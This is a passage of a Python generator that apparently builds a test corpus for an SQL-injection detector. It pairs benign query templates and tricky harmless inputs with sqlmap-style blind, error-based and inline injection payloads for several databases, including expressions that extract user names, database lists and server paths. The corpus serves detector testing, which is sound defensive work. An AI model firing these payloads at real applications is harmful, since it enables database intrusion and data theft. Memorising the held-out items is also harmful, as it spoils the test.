#!/usr/bin/env python3
"""Generator for the eighth held-out sql-guard corpus (deterministic, stdlib only).


Token kinds: S (string literal of any flavour), US (unterminated string),
Q (quoted identifier), UQ (unterminated quoted identifier), C (comment),
N (number), P ($n parameter), W (word, upper-cased), O (operator run),
and single punctuation ( ) , ; [ ] . : ::
"""

OPCH = set("+-*/<>=~!@#%^&|`?")


def lex(s):
    toks = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c in " \t\n\r\f":
            i += 1
            continue
        if s.startswith("--", i):
            j = s.find("\n", i)
            j = n if j < 0 else j
            toks.append(("C", s[i:j]))
            i = j
            continue
        if s.startswith("/*", i):
            depth, j = 1, i + 2
            while j < n and depth:
                if s.startswith("/*", j):
                    depth += 1
                    j += 2
                elif s.startswith("*/", j):
                    depth -= 1
                    j += 2
                else:
                    j += 1
            toks.append(("C", s[i:j]))
            i = j
            continue
        # string prefixes
        low = s[i:i + 3].lower()
        if low.startswith("u&'") or low.startswith('u&"'):
            q = s[i + 2]
            j = _quoted(s, i + 3, q, backslash=False)
            toks.append((("S" if q == "'" else "Q") if j > 0 else ("US" if q == "'" else "UQ"), s[i:abs(j)]))
            i = abs(j)
            continue
        if c in "eE" and i + 1 < n and s[i + 1] == "'" and not _wordprev(s, i):
            j = _quoted(s, i + 2, "'", backslash=True)
            toks.append(("S" if j > 0 else "US", s[i:abs(j)]))
            i = abs(j)
            continue
        if c in "bBxXnN" and i + 1 < n and s[i + 1] == "'" and not _wordprev(s, i):
            j = _quoted(s, i + 2, "'", backslash=False)
            toks.append(("S" if j > 0 else "US", s[i:abs(j)]))
            i = abs(j)
            continue
        if c == "'":
            j = _quoted(s, i + 1, "'", backslash=False)
            toks.append(("S" if j > 0 else "US", s[i:abs(j)]))
            i = abs(j)
            continue
        if c == '"':
            j = _quoted(s, i + 1, '"', backslash=False)
            toks.append(("Q" if j > 0 else "UQ", s[i:abs(j)]))
            i = abs(j)
            continue
        if c == "$":
            j = i + 1
            while j < n and s[j].isdigit():
                j += 1
            if j > i + 1 and (j >= n or not (s[j].isalnum() or s[j] == "_")):
                toks.append(("P", s[i:j]))
                i = j
                continue
            j = i + 1
            while j < n and (s[j].isalnum() or s[j] == "_") and not (j == i + 1 and s[j].isdigit()):
                j += 1
            if j < n and s[j] == "$":
                tag = s[i:j + 1]
                k = s.find(tag, j + 1)
                if k < 0:
                    toks.append(("US", s[i:]))
                    i = n
                else:
                    toks.append(("S", s[i:k + len(tag)]))
                    i = k + len(tag)
                continue
            toks.append(("O", "$"))
            i += 1
            continue
        if c.isdigit() or (c == "." and i + 1 < n and s[i + 1].isdigit()):
            j = i
            if s[i:i + 2].lower() in ("0x", "0b", "0o"):
                j = i + 2
                while j < n and (s[j].isalnum() or s[j] == "_"):
                    j += 1
            else:
                while j < n and (s[j].isdigit() or s[j] in "._"):
                    j += 1
                if j < n and s[j] in "eE" and j + 1 < n and (s[j + 1].isdigit() or (s[j + 1] in "+-" and j + 2 < n and s[j + 2].isdigit())):
                    j += 2
                    while j < n and s[j].isdigit():
                        j += 1
            toks.append(("N", s[i:j]))
            i = j
            continue
        if c.isalpha() or c == "_" or ord(c) > 127:
            j = i
            while j < n and (s[j].isalnum() or s[j] in "_$" or ord(s[j]) > 127):
                j += 1
            toks.append(("W", s[i:j].upper()))
            i = j
            continue
        if s.startswith("::", i):
            toks.append(("::", "::"))
            i += 2
            continue
        if c in "(),;[].:":
            toks.append((c, c))
            i += 1
            continue
        if c in OPCH:
            j = i
            while j < n and s[j] in OPCH and not s.startswith("--", j) and not s.startswith("/*", j):
                j += 1
            toks.append(("O", s[i:j]))
            i = j
            continue
        toks.append(("X", c))
        i += 1
    return toks


def _wordprev(s, i):
    return i > 0 and (s[i - 1].isalnum() or s[i - 1] in "_$")


def _quoted(s, j, q, backslash):
    """Return index after closing quote, or -len(s) when unterminated."""
    n = len(s)
    while j < n:
        ch = s[j]
        if backslash and ch == "\\":
            j += 2
            continue
        if ch == q:
            if j + 1 < n and s[j + 1] == q:
                j += 2
                continue
            return j + 1
        j += 1
    return -n


def skeleton(s):
    out = []
    for k, v in lex(s):
        if k in ("S", "N", "Q", "P", "C", "US", "UQ"):
            out.append(k)
        else:
            out.append(k + ":" + v)
    return tuple(out)


def statement_count(s):
    cnt, cur = 0, False
    for k, v in lex(s):
        if k == ";":
            if cur:
                cnt += 1
            cur = False
        elif k != "C":
            cur = True
    if cur:
        cnt += 1
    return cnt
# ---------------------------------------------------------------- templates
# slot types: q (inside '...'), e (inside E'...'), qi (inside "..."),
# n (raw number), list (raw number list), id (raw column), dir (raw direction),
# ident (raw bare identifier)
# each template: name, sql, {slot: (type, depth, defaults)}; depth = open parens
T = [
 ("e8_appt_slots", "SELECT slot_id, starts_at, clinician_id FROM appt_slots WHERE clinic_code = '{a}' AND starts_at >= '{b}' ORDER BY starts_at LIMIT 30",
  {"a": ("q", 0, ["EDI-04", "GLA-11"]), "b": ("q", 0, ["2024-09-02 08:00", "2025-01-15"])}),
 ("e8_ledger_credit", "INSERT INTO ledger_entries (account_no, amount, memo) VALUES ('{a}', {b}::numeric(12,2), '{c}') RETURNING entry_id",
  {"a": ("q", 1, ["ACC-88120", "ACC-10031"]), "b": ("n", 1, ["125.40", "9.99"]), "c": ("q", 1, ["standing order", "refund #2211"])}),
 ("e8_ledger_balance", "SELECT account_no, sum(amount)::numeric(12,2) AS bal FROM ledger_entries WHERE account_no = '{a}' GROUP BY account_no HAVING sum(amount) > {b}",
  {"a": ("q", 0, ["ACC-77001"]), "b": ("n", 0, ["0", "2500.00"])}),
 ("e8_parcel_scans", "SELECT scan_at, depot, status FROM parcel_scans WHERE tracking_ref = '{a}' AND scan_at BETWEEN '{b}' AND '{c}' ORDER BY scan_at",
  {"a": ("q", 0, ["JD014600009871", "1Z999AA10123456784"]), "b": ("q", 0, ["2024-06-01"]), "c": ("q", 0, ["2024-06-30"])}),
 ("e8_payroll_adjust", "UPDATE payroll_runs SET net_pay = {a}, adj_note = '{b}' WHERE employee_ref = '{c}' AND pay_period = '2024-05' RETURNING run_id, net_pay",
  {"a": ("n", 0, ["3120.55", "4890"]), "b": ("q", 0, ["overtime May"]), "c": ("q", 0, ["EMP-0419"])}),
 ("e8_enrol_upsert", "INSERT INTO course_enrolments (course_code, learner_email, cohort) VALUES ('{a}', '{b}', {c}) ON CONFLICT (course_code, learner_email) DO UPDATE SET cohort = EXCLUDED.cohort",
  {"a": ("q", 1, ["STAT-201", "BIO-110"]), "b": ("q", 1, ["kim.ng@example.edu"]), "c": ("n", 1, ["3", "12"])}),
 ("e8_lesson_search", "SELECT lesson_id, title FROM lesson_catalog WHERE title ILIKE '%{a}%' AND course_code = '{b}' ORDER BY title LIMIT 25",
  {"a": ("q", 0, ["regression", "mitosis"]), "b": ("q", 0, ["STAT-201"])}),
 ("e8_case_state", "UPDATE helpdesk_cases SET state = '{a}'::case_state, updated_at = now() WHERE case_no = {b}",
  {"a": ("q", 0, ["awaiting_customer", "resolved"]), "b": ("n", 0, ["55102", "7"])}),
 ("e8_ad_counter", "UPDATE ad_impressions_daily SET impressions = impressions + {a}, clicks = clicks + {b} WHERE creative_id = '{c}' AND day = current_date",
  {"a": ("n", 0, ["1", "250"]), "b": ("n", 0, ["0", "3"]), "c": ("q", 0, ["cr_7f3a91", "cr_00b2"])}),
 ("e8_listing_price", "SELECT listing_id, asking_price, lat, lon FROM property_listings WHERE asking_price BETWEEN {a} AND {b} AND lat > {c} ORDER BY asking_price",
  {"a": ("n", 0, ["250000", "0"]), "b": ("n", 0, ["450000"]), "c": ("n", 0, ["51.2", "-33.9"])}),
 ("e8_listing_town", "SELECT listing_id, street, bedrooms FROM property_listings WHERE town = '{a}' AND bedrooms >= {b} ORDER BY {c} {d} LIMIT 20",
  {"a": ("q", 0, ["Leith", "Harrogate"]), "b": ("n", 0, ["2"]), "c": ("id", 0, ["asking_price", "listed_on"]), "d": ("dir", 0, ["DESC", "ASC"])}),
 ("e8_playlist_tracks", "SELECT t.track_id, t.title FROM playlist_tracks pt JOIN music_tracks t ON t.track_id = pt.track_id WHERE pt.playlist_id = {a} ORDER BY pt.position",
  {"a": ("n", 0, ["9031", "12"])}),
 ("e8_track_play", "INSERT INTO track_plays (listener_id, track_id, client_agent, played_at) VALUES ({a}, {b}, '{c}', now())",
  {"a": ("n", 1, ["81020"]), "b": ("n", 1, ["4410", "7"]), "c": ("q", 1, ["ios/5.12.0", "web-player"])}),
 ("e8_forum_threads", "SELECT thread_id, subject, reply_count FROM forum_threads WHERE board_slug = '{a}' ORDER BY {b} DESC LIMIT {c} OFFSET {d}",
  {"a": ("q", 0, ["general", "help-desk"]), "b": ("id", 0, ["last_post_at", "reply_count"]), "c": ("n", 0, ["25"]), "d": ("n", 0, ["0", "75"])}),
 ("e8_vote_delete", "DELETE FROM post_votes WHERE voter_id = {a} AND post_ref = '{b}'",
  {"a": ("n", 0, ["3302"]), "b": ("q", 0, ["p-99812", "p-4"])}),
 ("e8_audit_ilike", "SELECT event_id, actor, occurred_at FROM security_audit WHERE actor ILIKE '{a}%' AND occurred_at > now() - interval '{b} days' ORDER BY occurred_at DESC",
  {"a": ("q", 0, ["svc-", "j.mar"]), "b": ("q", 0, ["7", "30"])}),
 ("e8_storefront_sort", "SELECT sku, title, unit_price FROM storefront_items WHERE in_stock ORDER BY unit_price {a} LIMIT 40",
  {"a": ("dir", 0, ["ASC", "DESC"])}),
 ("e8_press_page", "SELECT release_id, headline FROM press_releases ORDER BY published_on DESC LIMIT {a} OFFSET {b}",
  {"a": ("n", 0, ["10", "50"]), "b": ("n", 0, ["0", "40"])}),
 ("e8_badges_in", "SELECT badge_no, holder_name FROM access_badges WHERE site_id IN ({a}) AND revoked = false",
  {"a": ("list", 1, ["4, 9", "12"])}),
 ("e8_fleet_region", "SELECT vin, model_year FROM fleet_vehicles WHERE region IN ('{a}', 'north') AND retired_on IS NULL",
  {"a": ("q", 1, ["south-east", "midlands"])}),
 ("e8_device_specs", "SELECT device_uid FROM edge_devices WHERE specs->>'firmware' = '{a}' AND specs->>'vendor' = '{b}'",
  {"a": ("q", 0, ["2.8.1", "1.0.0-beta"]), "b": ("q", 0, ["Acmetron"])}),
 ("e8_meal_extras", "SELECT order_ref FROM meal_orders WHERE extras @> '{{\"sauce\": \"{a}\"}}'::jsonb ORDER BY order_ref DESC LIMIT 50",
  {"a": ("q", 0, ["chipotle", "garlic mayo"])}),
 ("e8_recipe_allergens", "SELECT recipe_id, title FROM kitchen_recipes WHERE allergens @> ARRAY['{a}']::text[] ORDER BY title",
  {"a": ("q", 2, ["sesame", "tree nuts"])}),
 ("e8_bookmark_upsert", "INSERT INTO reader_bookmarks (reader_id, chapter_ref, note) VALUES ({a}, '{b}', '{c}') ON CONFLICT (reader_id, chapter_ref) DO UPDATE SET note = EXCLUDED.note RETURNING bookmark_id",
  {"a": ("n", 1, ["1204"]), "b": ("q", 1, ["ch-17", "prologue"]), "c": ("q", 1, ["re-read this", "great twist"])}),
 ("e8_claim_close", "UPDATE warranty_claims SET resolution = '{a}', closed_at = now() WHERE claim_no = '{b}' RETURNING claim_no, closed_at",
  {"a": ("q", 0, ["replaced unit", "refund issued"]), "b": ("q", 0, ["WC-2024-0881"])}),
 ("e8_greenhouse_purge", "DELETE FROM greenhouse_readings WHERE sensor_tag = '{a}' AND taken_at < '{b}'",
  {"a": ("q", 0, ["GH2-humid", "GH1-temp"]), "b": ("q", 0, ["2023-12-31"])}),
 ("e8_lap_ranking", "WITH ranked AS (SELECT rider_id, lap_ms, row_number() OVER (PARTITION BY race_code ORDER BY lap_ms) AS pos FROM cycling_laps WHERE race_code = '{a}') SELECT rider_id, lap_ms FROM ranked WHERE pos <= {b}",
  {"a": ("q", 1, ["TDF-24-S5", "GIRO-23"]), "b": ("n", 0, ["10", "3"])}),
 ("e8_invoice_export", "COPY (SELECT invoice_no, gross FROM vendor_invoices WHERE supplier_code = '{a}') TO STDOUT WITH (FORMAT csv, HEADER true)",
  {"a": ("q", 1, ["SUP-330", "SUP-9"])}),
 ("e8_plant_search_fn", "SELECT * FROM search_garden_plants('{a}', {b})",
  {"a": ("q", 1, ["lavender", "hosta"]), "b": ("n", 1, ["20", "5"])}),
 ("e8_set_timeout", "SET LOCAL statement_timeout = '{a}'",
  {"a": ("q", 0, ["5s", "1500ms"])}),
 ("e8_notify_channel", "NOTIFY {a}, '{b}'",
  {"a": ("ident", 0, ["cache_bust", "orders_changed"]), "b": ("q", 0, ["sku:4471", "full"])}),
 ("e8_listen_channel", "LISTEN {a}",
  {"a": ("ident", 0, ["tenant_42_events", "job_done"])}),
 ("e8_execute_prepared", "EXECUTE {a}({b})",
  {"a": ("ident", 0, ["fetch_rider", "stmt_17"]), "b": ("n", 1, ["42", "7001"])}),
 ("e8_seat_band", "SELECT seat_code, price_band FROM concert_seats WHERE event_code = '{a}' AND band = '{b}'::price_band AND held = false",
  {"a": ("q", 0, ["LDN-0714"]), "b": ("q", 0, ["stalls", "balcony"])}),
 ("e8_hr_people", "SELECT staff_no, given_name, family_name FROM hr_people WHERE family_name = '{a}' AND dept_code = {b}",
  {"a": ("q", 0, ["Okafor", "Lindqvist"]), "b": ("n", 0, ["310", "12"])}),
 ("e8_shift_hours", "SELECT sum(hours_worked) FROM shift_hours WHERE staff_no = {a} AND worked_on BETWEEN '{b}' AND '{c}'",
  {"a": ("n", 0, ["20417"]), "b": ("q", 0, ["2024-04-01"]), "c": ("q", 0, ["2024-04-30"])}),
 ("e8_pledge_insert", "INSERT INTO charity_pledges (donor_name, pledge_amount, dedication) VALUES ('{a}', {b}, E'{c}')",
  {"a": ("q", 1, ["Priya Raman", "anonymous"]), "b": ("n", 1, ["50.00", "1200"]), "c": ("e", 1, ["for Gran", "In memory of Tom"])}),
 ("e8_podcast_search", "SELECT episode_id, title FROM podcast_episodes WHERE to_tsvector('simple', show_notes) @@ websearch_to_tsquery('simple', '{a}') LIMIT 15",
  {"a": ("q", 1, ["climate policy", "jazz history"])}),
 ("e8_rewards_pin", "SELECT points_balance FROM rewards_wallets WHERE member_code = '{a}' AND pin_hash = md5('{b}')",
  {"a": ("q", 0, ["RW-5521-77"]), "b": ("q", 1, ["4812", "0090"])}),
 ("e8_tenant_report_preview", "SELECT * FROM \"{a}\" ORDER BY 1 LIMIT 50",
  {"a": ("qi", 0, ["report_q3_sales", "Tenant Export 2024"])}),
 ("e8_storage_units", "SELECT unit_no, monthly_rate FROM storage_units WHERE available_from <= '{a}'::date AND monthly_rate < {b}",
  {"a": ("q", 0, ["2024-10-01"]), "b": ("n", 0, ["180", "95.5"])}),
 ("e8_i18n_lookup", "SELECT msg_text FROM i18n_messages WHERE locale = '{a}' AND msg_key = '{b}'",
  {"a": ("q", 0, ["pt-BR", "de"]), "b": ("q", 0, ["checkout.button.pay"])}),
 ("e8_lab_results", "SELECT result_id, analyte, value_num FROM lab_results WHERE patient_mrn = '{a}' AND collected_at > now() - '{b} hours'::interval",
  {"a": ("q", 0, ["MRN00482913"]), "b": ("q", 0, ["48", "72"])}),
 ("e8_course_leaders", "SELECT learner_id, score, rank() OVER (ORDER BY score DESC) FROM quiz_attempts WHERE quiz_id = {a} ORDER BY {b} LIMIT 10",
  {"a": ("n", 0, ["6610"]), "b": ("id", 0, ["score DESC", "finished_at"])}),
]
# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["D'Arcy Whitfield", "Rory O'Shaughnessy", "l'Écuyer", "Dell'Orto", "Bo'ness", "Sant'Ambrogio",
   "O'Keeffe & Sons", "Hawai'i Kai", "N'Djamena", "Côte d'Or", "rock 'n' roll", "'t Hooft", "d'Alembert", "M'Baye",
   "Fionnuala Ní Bhriain-O'Dea", "Tu'ipulotu", "Ya'akov", "Qur'an study", "Martha's Vineyard", "L'Oréal Paris"],
 "input_plain": ["sunflower seeds", "blue heron", "quarterly review", "night shift", "granite", "east wing", "spare keys",
   "oak barrel", "lemon tart", "pine forest", "mesh router", "bicycle pump", "harbour view", "paper lantern",
   "violin strings", "copper kettle", "maple syrup", "tidal pool", "garden shed", "wool socks"],
 "input_numeric_string": ["00042", "3.14159", "1e6", "-0", "2024", "+44", "0.000", "007700", "12e-3", "99999999"],
 "input_formatted": ["2023-11-05T14:30:00Z", "9b2f7c1e-4d3a-4f8e-a1c2-6e5d4b3a2f10", "GB82WEST12345698765432", "+1 (415) 555-0134",
   "HX-2291-B", "08:45", "EH1 2NG", "4.2.1-rc3", "€1.299,00", "**** 4417", "2024-02-29", "10.0.12.7", "AB12 CDE",
   "ISBN 978-0-13-468599-1", "1,234,567.89", "#FF8800", "v2/api/items", "48°51'24\"N", "2024-W19", "P3Y6M4DT12H30M5S",
   "0x7f3e", "SN-000-112-93", "1.5kg", "25/12/2023", "2023-07-01 23:59:59.999+02"],
 "input_unicode": ["Zoë Saldaña", "東京都渋谷区", "Ελληνικά", "Привет мир", "emoji 🎧🎶", "مرحبا بالعالم", "naïve café", "İstanbul",
   "ＳＥＬＥＣＴ ＊", "a\u200bb", "Ω≈ç√∫", "ﬀ ligature", "Straße", "e\u0301cole", "한국어 입력", "עברית", "ʻōlelo Hawaiʻi", "Łódź", "ᚠᚢᚦ", "ﾊﾝｶｸ"],
 "input_json_text": ['{"lang": "en", "opts": [1, 2]}', '[{"k": "it\'s"}]', '{"where": "a=b"}', 'null', '{"sql": "DELETE FROM x"}',
   '{"path": "C:\\\\temp"}', '{"n": -1.5e3, "ok": false}', '["a", "b", {"c": null}]', '{"q": "\' OR \'\'=\'"}', '{}'],
 "input_url_email": ["https://shop.example.net/p?id=5&ref=mail", "mailto:o'neill@example.ie", "ftp://files.example.com/pub/readme.txt",
   "user.name+filter@mail.example.co.uk", "https://example.com/search?q=union+select", "http://[2001:db8::5]:8080/",
   "sip:alice@voip.example", "https://example.org/a/b;c=d?e=f#g", "x@y.z", "https://example.com/%27%20or%201%3D1"],
 "input_sql_words": ["Select Comfort mattress", "Union Pacific", "drop shipping", "Update your profile", "Delete key stuck",
   "Order By Friday", "Where the Wild Things Are", "grant application", "insert coin", "The Union; a history",
   "truncate long titles", "Sleep Number bed", "or else", "null and void", "Don't DROP the ball", "It's a UNION job",
   "SELECT * FROM menu", "exec summary", "1=1 is always true", "waitfor the bus"],
 "input_punctuation": ["!!!", "?", "*.*", "a/b\\c", "#hashtag", "50% off", "(parenthetical)", "[brackets]", "{braces}", "<>",
   "a;b;c", "--", "/* */", "~!@#$%^&*()_+", "...", "¿qué?", "@@", "$5", "x=y", '"double"', "`tick`", "a||b", "::", "$$"],
 "input_whitespace": ["  leading", "trailing   ", "tab\there", "line1\nline2", "\r\n", "a  b   c", " ", "\u00a0nbsp", "\u3000ideographic", "\tindent\n"],
 "input_long_text": [],
 "input_numeric": [],
 "input_identifier": [],
}
SENTS = ["The north gate closes at dusk during winter.", "Please don't ring the bell after 9 p.m.", "Order 3 of 5 arrived; the rest is delayed.",
 "She said \"select the red one\" and walked off.", "Union rules apply to weekend shifts -- no exceptions.", "Our 'deluxe' tier costs $14.50/week.",
 "Is 2+2=4? Obviously; but check anyway.", "Drop-off point: loading bay B (rear).", "We'll update the schedule, or cancel it.",
 "Delete old drafts before Friday's backup.", "Tables 4, 5 and 6 are reserved from 7 o'clock.", "Sleep well; the alarm is set for 05:30."]
IDENTS = {"id": ["asking_price", "listed_on", "bedrooms", "last_post_at", "reply_count", "created_at", "score DESC", "finished_at", "title", "1"],
          "dir": ["ASC", "DESC", "asc", "desc", "DESC NULLS LAST", "ASC NULLS FIRST"],
          "ident": ["cache_bust", "orders_changed", "job_done", "tenant_42_events", "stmt_17", "fetch_rider", "q_audit_v2", "inv_sync"]}

# ---------------------------------------------------------------- helpers
def rword(rng, k=4):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(k))

def rnum(rng):
    return str(rng.randint(1000, 9999))

def delim(rng):
    return "q" + rword(rng, 3) + "q"

def chrs(s):
    return "||".join("CHR(%d)" % ord(c) for c in s)

TAILS = ["--", "-- -", "--+", "/*", "#", ";--", "-- %W", "/* %W */", "--%W", ";-- %W"]

def tail(rng):
    t = rng.choice(TAILS)
    return t.replace("%W", rword(rng, rng.randint(3, 5)))

def inference(rng):
    pos = rng.randint(1, 24)
    thr = rng.randint(40, 120)
    what = rng.choice(["current_user", "current_database()", "version()", "session_user", "inet_server_addr()::text",
                       "(SELECT usename FROM pg_user OFFSET %d LIMIT 1)" % rng.randint(0, 3),
                       "(SELECT string_agg(datname,',') FROM pg_database)", "current_setting('data_directory')"])
    form = rng.randint(0, 2)
    if form == 0:
        return "ASCII(SUBSTRING((COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))) FROM %d FOR 1))>%d" % (what, pos, thr)
    if form == 1:
        return "LENGTH(%s)>%d" % (what, rng.randint(2, 30))
    return "(SELECT COUNT(*) FROM pg_tables)>%d" % rng.randint(10, 200)

# ---------------------------------------------------------------- sqlmap-style techniques
# (title, dbms, family, clause kinds: w=where, r=replace, o=order, s=stacked, payload)
def SQ(rng):
    R = [rnum(rng) for _ in range(4)]
    S = rword(rng)
    D1, D2 = delim(rng), delim(rng)
    SL = str(rng.choice([3, 4, 6, 7, 8, 11, 12, 15]))
    HV = str(rng.choice([3000000, 4500000, 8000000, 12000000, 25000000]))
    return R, S, D1, D2, SL, HV

def techniques(rng, vector):
    R, S, D1, D2, SL, HV = SQ(rng)
    inf = inference(rng) if vector else "%s=%s" % (R[0], R[0])
    cw = "CASE WHEN (%s) THEN 1 ELSE 0 END" % inf
    out = [
     ("AND boolean-based blind - WHERE or HAVING clause", "PostgreSQL", "sqlmap_boolean_blind", "w", "AND %s" % inf),
     ("OR boolean-based blind - WHERE or HAVING clause", "generic", "sqlmap_boolean_blind", "w2", "OR %s" % inf),
     ("AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "sqlmap_boolean_blind", "wc",
      "AND %s=(SELECT (CASE WHEN (%s) THEN %s ELSE (SELECT %s UNION SELECT %s) END))" % (R[1], inf, R[1], R[2], R[3])),
     ("AND boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "sqlmap_boolean_blind", "w", "AND NOT %s=%s" % (R[1], R[2]) if not vector else "AND NOT (%s)" % inf),
     ("OR boolean-based blind - WHERE or HAVING clause (NOT - comment)", "generic", "sqlmap_boolean_blind", "w2c", "OR NOT %s=%s" % (R[1], R[2])),
     ("Boolean-based blind - Parameter replace (original value)", "generic", "sqlmap_boolean_blind", "r",
      "(SELECT (CASE WHEN (%s) THEN %%ORIG%% ELSE (SELECT %s UNION SELECT %s) END))" % (inf, R[2], R[3])),
     ("PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "w",
      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST('%s' AS NUMERIC) END)) IS NULL" % (inf, S)),
     ("PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "w2",
      "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST('%s' AS NUMERIC) END)) IS NULL" % (inf, S)),
     ("PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_boolean_blind", "o",
      ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % inf),
     ("PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", "PostgreSQL", "sqlmap_boolean_blind", "o",
      ",(SELECT * FROM GENERATE_SERIES(%s,%s,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R[1], R[1], inf)),
     ("PostgreSQL boolean-based blind - Stacked queries", "PostgreSQL", "sqlmap_boolean_blind", "s",
      ";SELECT (CASE WHEN (%s) THEN %s ELSE 1/(SELECT 0) END)" % (inf, R[1])),
     ("MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "MySQL", "sqlmap_boolean_blind", "w",
      "RLIKE (SELECT (CASE WHEN (%s) THEN 0x%s ELSE 0x28 END))" % (inf, "".join("%02x" % ord(c) for c in S))),
     ("HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "sqlmap_boolean_blind", "w", "HAVING %s" % inf),
     ("Microsoft SQL Server/Sybase boolean-based blind - ORDER BY clause", "Microsoft SQL Server", "sqlmap_boolean_blind", "o",
      ",(SELECT (CASE WHEN (%s) THEN 1 ELSE %s*(SELECT %s UNION ALL SELECT %s) END))" % (inf, R[1], R[2], R[3])),
     ("Oracle AND boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "sqlmap_boolean_blind", "w",
      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%s) END) FROM DUAL) IS NULL" % (inf, R[1])),
     ("SQLite AND boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "SQLite", "sqlmap_boolean_blind", "w",
      "AND CASE WHEN %s THEN %s ELSE JSON(CHAR(%d,%d,%d,%d)) END" % (inf, R[1], *[ord(c) for c in S])),
     ("PostgreSQL AND error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "w",
      "AND %s=CAST('%s'||(SELECT (%s))::text||'%s' AS NUMERIC)" % (R[1], D1, cw, D2)),
     ("PostgreSQL OR error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "w2",
      "OR %s=CAST('%s'||(SELECT (%s))::text||'%s' AS NUMERIC)" % (R[1], D1, cw, D2)),
     ("PostgreSQL error-based - Parameter replace", "PostgreSQL", "sqlmap_error_based", "r",
      "(CAST(%s||(SELECT (%s))::text||%s AS NUMERIC))" % ("(" + chrs(D1) + ")", cw, "(" + chrs(D2) + ")")),
     ("PostgreSQL error-based - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_error_based", "o",
      ",(CAST('%s'||(SELECT (%s))::text||'%s' AS NUMERIC))" % (D1, cw, D2)),
     ("PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "sqlmap_error_based", "r",
      "(CAST('%s'||(SELECT 1 FROM GENERATE_SERIES(%s,%s,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||'%s' AS NUMERIC))" % (D1, R[2], R[2], inf, D2)),
     ("MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "MySQL", "sqlmap_error_based", "w",
      "AND (SELECT %s FROM(SELECT COUNT(*),CONCAT(0x%s,(SELECT (ELT(%s,1))),0x%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (R[1], D1.encode().hex(), inf, D2.encode().hex())),
     ("MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "MySQL", "sqlmap_error_based", "w",
      "AND GTID_SUBSET(CONCAT(0x%s,(SELECT (ELT(%s,1))),0x%s),%s)" % (D1.encode().hex(), inf, D2.encode().hex(), R[2])),
     ("MySQL >= 5.1 OR error-based - WHERE or HAVING clause (EXTRACTVALUE)", "MySQL", "sqlmap_error_based", "w2",
      "OR EXTRACTVALUE(%s,CONCAT(0x5c,0x%s,(SELECT (ELT(%s,1))),0x%s))" % (R[1], D1.encode().hex(), inf, D2.encode().hex())),
     ("Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "Microsoft SQL Server", "sqlmap_error_based", "w",
      "AND %s IN (SELECT ('%s'+(SELECT (CASE WHEN (%s) THEN '1' ELSE '0' END))+'%s'))" % (R[1], D1, inf, D2)),
     ("Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (CONVERT)", "Microsoft SQL Server", "sqlmap_error_based", "w2",
      "OR %s=CONVERT(INT,(SELECT CHAR(%d)+CHAR(%d)+(SELECT (CASE WHEN (%s) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(%d)))" % (R[1], ord(D1[0]), ord(D1[1]), inf, ord(D2[0]))),
     ("Oracle AND error-based - WHERE or HAVING clause (XMLType)", "Oracle", "sqlmap_error_based", "w",
      "AND %s=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(REPLACE(REPLACE((SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM DUAL),CHR(32),CHR(113)),CHR(36),CHR(112)))||%s||CHR(62))) FROM DUAL)" % (R[1], chrs(D1), inf, chrs(D2))),
     ("Oracle OR error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "Oracle", "sqlmap_error_based", "w2",
      "OR %s=UTL_INADDR.GET_HOST_ADDRESS(CHR(%d)||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM DUAL)||CHR(%d))" % (R[1], ord(D1[1]), inf, ord(D2[1]))),
     ("Firebird AND error-based - WHERE or HAVING clause", "Firebird", "sqlmap_error_based", "w",
      "AND %s=('%s'||(SELECT CASE %s WHEN %s THEN 1 ELSE 0 END FROM RDB$DATABASE)||'%s')" % (R[1], D1, R[2], R[2], D2)),
     ("IBM DB2 AND error-based - WHERE or HAVING clause", "IBM DB2", "sqlmap_error_based", "w",
      "AND %s=RAISE_ERROR('70001','%s'||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END) FROM SYSIBM.SYSDUMMY1)||'%s')" % (R[1], D1, inf, D2)),
     ("PostgreSQL inline queries", "PostgreSQL", "sqlmap_inline_query", "r",
      "(SELECT '%s'||(SELECT (%s))::text||'%s')" % (D1, cw, D2)),
     ("Generic inline queries", "generic", "sqlmap_inline_query", "r",
